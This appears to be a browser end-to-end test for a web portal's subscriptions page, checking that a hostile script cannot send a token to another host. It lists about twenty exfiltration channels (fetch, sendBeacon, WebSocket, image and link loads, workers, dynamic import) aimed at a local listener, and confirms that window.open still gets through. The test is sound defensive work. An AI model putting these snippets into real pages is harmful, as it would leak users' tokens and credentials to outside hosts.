import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, headingOf, openAs, test } from '../portal.ts'

/** Ways for a script to send a token to a host that answers everybody; `out` is that host's address. */
const EXITS = {
  fetch: 'return fetch(out)',
  beacon: 'navigator.sendBeacon(out, "token")',
  socket: 'new WebSocket(out.replace("http", "ws"))',
  events: 'new EventSource(out)',
  picture: 'new Image().src = out',
  font: 'return new FontFace("x", "url(" + out + ")").load()',
  sheet:
    'const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background: url(" + out + ") }"); document.adoptedStyleSheets = [sheet]',
  frame: 'put("iframe", { src: out })',
  object: 'put("object", { data: out })',
  video: 'put("video", { src: out })',
  ping: 'put("a", { href: "#", ping: out }).click()',
  form: 'put("form", { action: out, target: "_blank" }).submit()',
  'link prefetch': 'put("link", { rel: "prefetch", href: out })',
  'link prefetch of a style': 'put("link", { rel: "prefetch", as: "style", href: out })',
  'link preload': 'put("link", { rel: "preload", as: "image", href: out })',
  'link modulepreload': 'put("link", { rel: "modulepreload", href: out })',
  'link stylesheet': 'put("link", { rel: "stylesheet", href: out })',
  'link icon': 'put("link", { rel: "icon", href: out })',
  worker: 'new Worker("data:text/javascript,fetch(" + JSON.stringify(out) + ")")',
  script: 'put("script", { src: out })',
  import: 'return import(out)',
} as const satisfies Record<string, string>

/** Creates elements like any script; must not report a synchronous refusal, as none of them does. */
const PUT = `const put = (name, words) => {
  const element = Object.assign(document.createElement(name), words)
  if (words.as) element.setAttribute('as', words.as)
  document.body.append(element)
  return element
};`

// Each attempt is refused, and the browser logs it.
test.use({ expectedComplaints: /.*/ })

test('a hostile part sends nothing to another host, whichever way it tries', async ({ page, portal: _ }) => {
  const left = new Set<string>()
  const note = (url = '') => left.add(decodeURIComponent(url.slice(1)))
  const host = createServer(({ url }, answer) => {
    note(url)
    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  }).on('upgrade', ({ url }, socket) => {
    note(url)
    socket.destroy()
  })
  await new Promise<void>(resolve => host.listen(0, '127.0.0.1', resolve))
  const { port } = host.address() as AddressInfo
  await openAs(page, 'Camille Martin', '/souscriptions')
  await expect(headingOf(page)).toHaveText('Bonjour Camille')
  for (const [name, code] of Object.entries(EXITS)) {
    const out = JSON.stringify(`http://127.0.0.1:${port}/${encodeURIComponent(name)}`)
    await page.evaluate(
      `Promise.race([(async () => { const out = ${out}; ${PUT} ${code} })(), new Promise(resolve => setTimeout(resolve, 300))]).catch(() => {})`,
    )
  }
  await page.waitForTimeout(1_000)
  expect([...left]).toEqual([])
  // The host does answer: `window.open`, which nothing can prevent (docs/security.md), reaches it.
  await page.evaluate(out => void window.open(out), `http://127.0.0.1:${port}/opened`)
  await expect.poll(() => [...left]).toContain('opened')
  await new Promise(resolve => host.close(resolve).closeAllConnections())
})
